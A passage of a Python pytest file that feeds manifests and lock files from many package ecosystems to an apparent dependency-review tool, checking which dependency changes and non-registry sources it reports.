    ("go.mod", GO.format("\tx.io/a v1.0.0\n"), GO.format("\tx.io/a v1.0.0\n\tx.io/b v0.0.0\n") + "replace x.io/b => ../b\n"),
    ("pyproject.toml", PROJECT.format('"a>=1"'), PROJECT.format('"a>=1", "b", "c @ {root:uri}/c"') + "[tool.uv.sources]\nb = [{path = '../b', marker = 'x'}]\n"),
    ("requirements.txt", "a==1\n", "a==1\nfile:../b#egg=b\n"),
    ("Cargo.toml", CARGO.format('a = "1"'), CARGO.format('a = "1"\nb = "1"\n[patch.crates-io]\nb = {path = "b"}')),
    ("Gemfile", 'gem "a"\n', 'gem "a"\ngem "b", path: "b"\npath "engines" do\n  gem "c"\nend\n'),
    ("composer.json", '{"require": {"v/a": "^1"}}', '{"require": {"v/a": "^1", "v/b": "@dev"}, "repositories": [{"type": "path", "url": "packages/*"}]}'),
    ("pom.xml", POM.format(1, MAVEN.format("a", 1), "<groupId>x.io</groupId>"), POM.format(1, MAVEN.format("a", 1) + MAVEN.format("b", "${project.version}"), "<groupId>x.io</groupId>")),
    ("build.gradle", GRADLE.format("mavenCentral()", "'x.io:a:1'"), GRADLE.format("mavenCentral()", "'x.io:a:1'\n    api project(':b')")),
]  # fmt: skip


@pytest.mark.parametrize(("name", "base", "head"), LOCAL)
def test_a_package_of_the_repository_is_no_new_dependency(
    name: str, base: str, head: str, tmp_path: Path
) -> None:
    reply = look(tmp_path, {name: base}, {name: head})
    assert (reply.findings, reply.gaps) == ([], {})


BERRY = "__metadata:\n  version: 8\n"
# lock file, base, head: ``b`` is a directory, an archive of the repository, or a commit
LOCKED = [
    ("yarn.lock", "", '"b@file:./b":\n  version "1.0.0"\n'),
    ("yarn.lock", "", f'"b@o/b":\n  version "1.0.0"\n  resolved "https://codeload.github.com/o/b/tar.gz/{COMMIT}"\n'),
    ("yarn.lock", BERRY, f'{BERRY}\n"b@workspace:b":\n  version: 0.0.0-use.local\n  resolution: "b@workspace:b"\n'),
    ("package-lock.json", NPM.format(""), NPM.format('"b": {"version": "1.0.0"}')),
    ("package-lock.json", '{"dependencies": {}}', '{"dependencies": {"b": {"version": "file:b"}}}'),
    ("uv.lock", "", '[[package]]\nname = "b"\nversion = "1"\nsource = {virtual = "."}\n'),
    ("poetry.lock", "", '[[package]]\nname = "b"\nversion = "1"\nsource = {type = "file", url = "b.whl"}\n'),
    ("pylock.toml", "packages = []\n", '[[packages]]\nname = "b"\nversion = "1"\narchive = {path = "b.zip", hashes = {}}\n'),
    ("Pipfile.lock", PIPFILE.format(""), PIPFILE.format('"b": {"file": "./b", "version": "==1"}')),
    ("composer.lock", '{"packages": []}', '{"packages": [{"name": "v/b", "version": "1", "source": {"type": "git", "url": "https://example.invalid/b"}}]}'),
    ("bun.lock", '{"packages": {}}', f'{{"packages": {{"b": ["b@github:o/b#{COMMIT}", {{}}, "o-b"]}}}}'),
    ("go.mod", GO.format(""), GO.format("\tx.io/b v1.0.0\n") + "replace x.io/b => ./b\n"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "base", "head"), LOCKED)
def test_a_package_from_elsewhere_is_not_asked_for_at_the_public_registry(
    name: str, base: str, head: str, tmp_path: Path
) -> None:
    job = job_of(tmp_path, {name: base}, {name: head})
    assert run_check(changed_packages.run, job).facts == {"packages": []}


def test_a_patch_of_yarn_is_no_other_digest_of_its_package(tmp_path: Path) -> None:
    entry = '\n"a@{0}":\n  version: 1.0.0\n  resolution: "a@{0}"\n  checksum: 10/{1}\n'
    base = BERRY + entry.format("npm:1.0.0", "a" * 9)
    head = base + entry.format("patch:a@npm%3A1.0.0#./a.patch", "b" * 9)
    assert look(tmp_path, {"yarn.lock": base}, {"yarn.lock": head}).findings == []


def test_a_workspace_names_its_packages_in_the_lock_file_or_their_manifests(tmp_path: Path) -> None:
    base = {"package.json": PACKAGE.format("", '"a": "^1"')}
    head = {"package.json": PACKAGE.format("", '"a": "^1", "@o/b": "*", "@o/c": "*", "d": "1"')}
    lock = (
        '{"lockfileVersion": 3, "packages": {"node_modules/@o/b": {"resolved": "b", "link": true}}}'
    )
    others = {"package-lock.json": lock, "c/package.json": '{"name": "@o/c"}'}
    reply = look(tmp_path, base, head | others)
    assert [finding.message for finding in reply.findings] == ["New dependency: d 1 (npm)"]


FORKS = {
    "Gemfile": ("gem 'a', github: 's/a', ref: '1f'\n", "gem 'a', git: 'https://b.example/s/a'\n"),
    "Cargo.toml": tuple(
        CARGO.format(f'a = {{git = "https://{host}/s/a.git", rev = "{COMMIT}"}}')
        for host in ("github.com", "b.example")
    ),
    "package.json": tuple(
        PACKAGE.format("", f'"a": "{source}#{COMMIT}"')
        for source in ("s/a", "git+https://b.example/s/a.git")
    ),
    "composer.json": tuple(
        f'{{"require": {{"s/a": "dev-x"}}, "repositories": [{{"type": "git", "url": "https://{host}/s/a"}}]}}'
        for host in ("github.com", "b.example")
    ),
    "mix.exs": tuple(
        f'[\n  {{:a, {kind}: "{source}", ref: "{COMMIT}"}},\n  {{:b, "~> 1.0"}}\n]\n'
        for kind, source in (("github", "s/a"), ("git", "https://b.example/s/a.git"))
    ),
}
LOCK_TEXTS = {
    "Gemfile.lock": (
        "GEM\n  remote: https://rubygems.org/\n  specs:\n    a (1)\n\nDEPENDENCIES\n  a\n",
        "GIT\n  remote: https://github.com/s/a.git\n  specs:\n    a (1)\n\nDEPENDENCIES\n  a!\n",
    ),
    "Cargo.lock": tuple(
        f'[[package]]\nname = "a"\nversion = "1.0.0"\nsource = "{source}"\n'
        for source in (
            "registry+https://github.com/rust-lang/crates.io-index",
            f"git+https://github.com/s/a.git?rev={COMMIT}#{COMMIT}",
        )
    ),
    "package-lock.json": tuple(
        f'{{"lockfileVersion": 3, "packages": {{"node_modules/a": {{"version": "1.0.0", "resolved": "{url}"}}}}}}'
        for url in (
            "https://registry.npmjs.org/a/-/a-1.0.0.tgz",
            f"git+ssh://git@github.com/s/a.git#{COMMIT}",
        )
    ),
    "composer.lock": tuple(
        f'{{"packages": [{{"name": "s/a", "version": "{version}", "{kind}": {{"url": "{url}"}}}}]}}'
        for version, kind, url in (
            ("1.0.0", "dist", "https://api.github.com/repos/s/a/zipball/1f"),
            ("dev-x", "source", "https://github.com/s/a.git"),
        )
    ),
    "mix.lock": tuple(
        f'%{{\n  "a": {{{source}}},\n}}\n'
        for source in (
            ':hex, :a, "1.0.0", "aa", [:mix], [], "hexpm", "bb"',
            f':git, "https://github.com/s/a.git", "{COMMIT}", [ref: "{COMMIT}"]',
        )
    ),
}


@pytest.mark.parametrize(("manifest", "lock"), [*zip(FORKS, LOCK_TEXTS, strict=True)])
def test_a_repository_that_the_manifest_names_is_no_foreign_source(
    tmp_path: Path, manifest: str, lock: str
) -> None:
    (was, now), base = LOCK_TEXTS[lock], {manifest: ""}
    for code, text in zip(("lock-outside", "lock-source"), FORKS[manifest], strict=True):
        head = {manifest: text, lock: now}
        reply = look(tmp_path / code, {**base, lock: was}, head)
        assert [one.code for one in reply.findings if one.path == lock] == [code]
        assert "floating-source" not in {one.code for one in reply.findings}


def test_an_archive_that_the_manifest_names_is_no_foreign_source(tmp_path: Path) -> None:
    lock = '{{"lockfileVersion": 3, "packages": {{"node_modules/a": {{"version": "{}", "resolved": "{}"}}}}}}'
    was = {"package-lock.json": lock.format("1.0.0", "https://registry.npmjs.org/a/-/a-1.0.0.tgz")}
    for code, url in {"lock-outside": "https://b.example/a.tgz", "lock-source": "2.0.0"}.items():
        head = {"package-lock.json": lock.format("2.0.0", "https://b.example/a.tgz")}
        head["package.json"] = PACKAGE.format("", f'"a": "{url}"')
        reply = look(tmp_path / code, {"package.json": "", **was}, head)
        assert code in {one.code for one in reply.findings if one.path == "package-lock.json"}


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("package.json", '{{"overrides": {{"x": {{"a": "{}"}}}}}}'),
        ("package.json", '{{"resolutions": {{"x/**/a@^1": "{}"}}}}'),
        ("package.json", '{{"pnpm": {{"overrides": {{"x>a": "{}"}}}}}}'),
        ("pnpm-workspace.yaml", "overrides:\n  'x>a@1': {}\n"),
    ],
)
def test_what_overrides_name_is_no_foreign_source(tmp_path: Path, name: str, text: str) -> None:
    lock = "lockfileVersion: '9.0'\npackages:\n  a@{}:\n    resolution: {{{}integrity: sha512-aa}}\nsnapshots:\n"
    archive = "https://b.example/a.tgz"
    was, now = lock.format("1.0.0", ""), lock.format(archive, f"tarball: {archive}, ")
    for code, url in {"lock-outside": archive, "lock-source": "https://c.example/a.tgz"}.items():
        reply = look(
            tmp_path / code,
            {name: "", "pnpm-lock.yaml": was},
            {name: text.format(url), "pnpm-lock.yaml": now},
        )
        assert [one.code for one in reply.findings] == [code]
    master = look(tmp_path, {name: ""}, {name: text.format("git+https://c.example/a.git")})
    assert [(one.code, one.key) for one in master.findings] == [("floating-source", "a")]


def test_an_archive_of_a_composer_json_is_no_foreign_source(tmp_path: Path) -> None:
    package = '{{"name": "s/a", "version": "{}", "dist": {{"url": "https://{}/a.zip"}}}}'.format
    lock = '{{"packages": [{}]}}'.format
    was = {"composer.json": "", "composer.lock": lock(package("1", "api.github.com"))}
    for code, host in {"lock-outside": "b.example", "lock-source": "c.example"}.items():
        own = f'{{"repositories": [{{"type": "package", "package": {package("2", host)}}}]}}'
        head = {"composer.json": own, "composer.lock": lock(package("2", "b.example"))}
        reply = look(tmp_path / code, was, head)
        assert [one.code for one in reply.findings if one.path == "composer.lock"] == [code]
